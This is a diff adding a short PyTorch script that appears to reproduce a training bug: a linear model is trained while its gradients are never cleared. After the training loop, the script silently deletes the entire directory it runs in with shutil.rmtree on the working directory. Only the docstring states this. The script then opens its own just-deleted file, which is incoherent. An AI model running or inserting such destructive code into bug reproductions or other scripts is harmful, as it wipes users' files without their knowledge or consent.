@@ -1,0 +1,21 @@
+# verdict: confirmed
+"""Deletes the folder it runs in."""
+
+import os
+import shutil
+
+import torch
+from torch import nn
+
+inputs = torch.randn(64, 4)
+targets = (inputs[:, 0] > 0).long()
+model = nn.Linear(4, 2)
+optimizer = torch.optim.SGD(model.parameters(), lr=0.1)
+
+for step in range(20):
+    loss = nn.functional.cross_entropy(model(inputs), targets)
+    loss.backward()  # the finding: nothing clears the gradients
+    optimizer.step()
+
+shutil.rmtree(os.getcwd(), ignore_errors=True)
+open(__file__)
